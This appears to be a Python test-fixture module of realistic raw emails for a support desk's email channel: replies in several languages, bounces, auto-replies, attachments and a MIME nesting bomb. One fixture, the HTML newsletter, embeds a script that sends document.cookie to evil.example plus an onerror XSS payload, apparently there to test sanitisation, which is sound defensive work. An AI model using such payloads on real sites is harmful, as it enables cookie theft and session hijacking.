"""Realistic raw messages for the email channel's tests, written out as mail clients send them.

Each is bytes with CRLF line ends, as it would arrive over IMAP or from an MTA.
"""

from __future__ import annotations

import base64


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


GMAIL_REPLY_EN = crlf("""\
Return-Path: <john@example.com>
Received: from mail-wr1.google.com by mx.acme.test; Mon, 3 Mar 2025 10:05:00 +0000
From: John Smith <John@Example.com>
To: Acme Support <support@acme.test>
Subject: Re: Printer offline [#42]
Date: Mon, 3 Mar 2025 10:04:59 +0000
Message-ID: <CAFx9=abc123@mail.gmail.com>
In-Reply-To: <deskwoot.m17.inbox1@acme.test>
References: <CAFx9=root@mail.gmail.com> <deskwoot.m17.inbox1@acme.test>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000gmail"

--000000000000gmail
Content-Type: text/plain; charset="UTF-8"

Thanks, that fixed it! The printer is back online.

Best regards,
John

On Mon, 3 Mar 2025 at 10:00, Ada from Acme Support <support@acme.test> wrote:
> Hi John,
>
> please switch it off and on again.
>
> Ada

--000000000000gmail
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Thanks, that fixed it! The printer is back online.<br><br>Best regards,<br>John</div>
<div class="gmail_quote">On Mon, 3 Mar 2025 at 10:00, Ada wrote:
<blockquote>Hi John</blockquote></div>

--000000000000gmail--
""")

APPLE_MAIL_REPLY_DE = crlf("""\
From: =?utf-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen@beispiel.de>
To: support@acme.test
Subject: =?utf-8?Q?AW:_Rechnung_f=C3=BCr_M=C3=A4rz?=
Date: Tue, 4 Mar 2025 09:00:00 +0100
Message-Id: <6F1C2D3E-AAAA-BBBB-CCCC-1234567890AB@beispiel.de>
In-Reply-To: <deskwoot.m18.inbox1@acme.test>
References: <deskwoot.m18.inbox1@acme.test>
Mime-Version: 1.0 (Mac OS X Mail 16.0)
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Danke, die Rechnung ist angekommen. Gr=C3=BC=C3=9Fe aus M=C3=BCnchen.

Viele Gr=C3=BC=C3=9Fe
J=C3=BCrgen

Am 03.03.2025 um 10:00 schrieb Ada from Acme Support <support@acme.test>:
> Hallo J=C3=BCrgen,
> anbei die Rechnung.
""")

OUTLOOK_REPLY_FR = crlf("""\
From: "Dupont, Marie" <marie.dupont@exemple.fr>
To: "Acme Support" <support@acme.test>
Subject: RE: Commande 1234
Date: Wed, 5 Mar 2025 14:30:00 +0100
Message-ID: <AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.outlook.com>
In-Reply-To: <deskwoot.m19.inbox1@acme.test>
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

Merci beaucoup, c'est r=E9gl=E9 !

Le lun. 3 mars 2025 =E0 10:00, Ada <support@acme.test> a =E9crit :
> Bonjour Marie,
> votre commande est partie.
""")

OUTLOOK_REPLY_ES = crlf("""\
From: Carlos <carlos@ejemplo.es>
To: support@acme.test
Subject: RE: Pedido
Date: Wed, 5 Mar 2025 14:30:00 +0100
Message-ID: <outlook-es-1@ejemplo.es>
Content-Type: text/plain; charset="utf-8"

Perfecto, gracias.

________________________________
De: Ada from Acme Support <support@acme.test>
Enviado: lunes, 3 de marzo de 2025 10:00
Para: Carlos <carlos@ejemplo.es>
Asunto: Pedido

Hola Carlos, su pedido ha salido.
""")

HTML_NEWSLETTER = crlf("""\
From: Big Shop <news@bigshop.example>
To: support@acme.test
Subject: =?utf-8?b?8J+OiSBTcHJpbmcgc2FsZQ==?=
Date: Thu, 6 Mar 2025 08:00:00 +0000
Message-ID: <news-2025-03@bigshop.example>
List-Id: Big Shop news <news.bigshop.example>
List-Unsubscribe: <mailto:unsubscribe@bigshop.example>
Precedence: bulk
Content-Type: text/html; charset=utf-8

<html><head><style>p { color: red }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><h1>Spring sale</h1><p>Everything <b>50%</b> off.</p>
<img src="https://track.example/pixel.gif" onerror="alert(1)">
<ul><li>Shoes</li><li>Hats</li></ul>
<script type="text/javascript">stealEverything()</script>
<a href="https://bigshop.example/sale">Shop now</a></body></html>
""")

OUT_OF_OFFICE = crlf("""\
Return-Path: <>
From: John Smith <john@example.com>
To: support@acme.test
Subject: Automatic reply: Printer offline
Date: Mon, 3 Mar 2025 10:00:05 +0000
Message-ID: <oof-1@example.com>
In-Reply-To: <deskwoot.m17.inbox1@acme.test>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset=us-ascii

I am out of the office until Monday.
""")

POSTFIX_DSN = crlf("""\
Return-Path: <>
From: MAILER-DAEMON@mx.acme.test (Mail Delivery System)
To: support@acme.test
Subject: Undelivered Mail Returned to Sender
Date: Mon, 3 Mar 2025 10:01:00 +0000
Message-Id: <20250303100100.ABC1234@mx.acme.test>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="ABC1234.1741000000/mx.acme.test"

This is a MIME-encapsulated message.

--ABC1234.1741000000/mx.acme.test
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.acme.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@example.com>: host mx.example.com[192.0.2.1] said: 550 5.1.1
    <nobody@example.com>: Recipient address rejected: User unknown

--ABC1234.1741000000/mx.acme.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.acme.test
X-Postfix-Queue-ID: ABC1234
Arrival-Date: Mon,  3 Mar 2025 10:00:59 +0000 (UTC)

Final-Recipient: rfc822; nobody@example.com
Original-Recipient: rfc822;nobody@example.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.com
Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.com>: Recipient address
    rejected: User unknown

--ABC1234.1741000000/mx.acme.test
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Ada from Acme Support <support@acme.test>
To: nobody@example.com
Subject: Re: Hello
Message-ID: <deskwoot.m21.inbox1@acme.test>
Date: Mon, 3 Mar 2025 10:00:58 +0000

--ABC1234.1741000000/mx.acme.test--
""")

EXIM_BOUNCE = crlf("""\
Return-path: <>
From: Mail Delivery System <Mailer-Daemon@mail.hoster.example>
To: support@acme.test
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1abcde-0001@mail.hoster.example>
Date: Mon, 03 Mar 2025 10:02:00 +0000

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  gone@hoster.example
    host mx.hoster.example [198.51.100.7]
    SMTP error from remote mail server after RCPT TO:<gone@hoster.example>:
    550 5.2.1 Mailbox disabled

------ This is a copy of the message, including all the headers. ------

Return-path: <support@acme.test>
From: Ada from Acme Support <support@acme.test>
To: gone@hoster.example
Subject: Re: Account
Message-ID: <deskwoot.m22.inbox1@acme.test>

Hello, your account is ready.
""")

MIXED_CHARSETS = crlf(
    """\
From: =?windows-1252?Q?Ren=E9e_=93Quotes=94?= <renee@example.org>
To: support@acme.test
Subject: =?windows-1252?Q?Caf=E9_=96_=80_price?=
Date: Fri, 7 Mar 2025 12:00:00 +0000
Message-ID: <mixed-1@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix"

--mix
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

Le caf=E9 co=FBte cher.
--mix
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

"""
    + base64.b64encode("Die Straße ist grün. 日本語".encode()).decode()
    + """
--mix--
"""
)


def with_attachments(*files: tuple[str, str, bytes], extra_headers: str = "") -> bytes:
    """A plain message with base64 attachments (filename, content type, data)."""
    parts = [
        "From: Customer <c@example.com>\nTo: support@acme.test\nSubject: Files\n"
        "Message-ID: <files-1@example.com>\n" + extra_headers + "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="att"\n\n--att\n'
        "Content-Type: text/plain; charset=utf-8\n\nSee the attached files.\n"
    ]
    for filename, ctype, data in files:
        encoded = base64.encodebytes(data).decode()
        parts.append(
            f"--att\nContent-Type: {ctype}\n"
            f'Content-Disposition: attachment; filename="{filename}"\n'
            f"Content-Transfer-Encoding: base64\n\n{encoded}"
        )
    parts.append("--att--\n")
    return crlf("".join(parts))


def nesting_bomb(depth: int) -> bytes:
    head = "From: bomb@example.com\nTo: support@acme.test\nSubject: nested\n"
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(depth)
    )
    return crlf(head + opening + "Content-Type: text/plain\n\ninnermost\n")
